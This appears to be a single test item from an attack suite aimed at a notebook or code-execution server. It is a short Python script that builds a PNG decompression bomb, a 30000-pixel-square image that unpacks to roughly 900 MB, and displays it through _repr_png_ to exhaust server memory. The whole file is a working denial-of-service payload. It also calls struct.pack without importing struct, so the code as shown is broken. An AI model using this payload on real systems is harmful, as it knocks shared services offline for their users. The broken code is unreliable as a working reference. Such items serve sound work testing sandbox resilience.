# attack: show a picture that unpacks to gigabytes
# class: protocol
# layer: protocol
# expect: any
# fresh: yes
# outside: server memory

import zlib
def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
side = 30000
body = zlib.compressobj(9)
packed = b"".join(body.compress(bytes(side + 1)) for _ in range(side)) + body.flush()
png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")
class Picture:
    def _repr_png_(self):
        return png
print("HELD")
Picture()
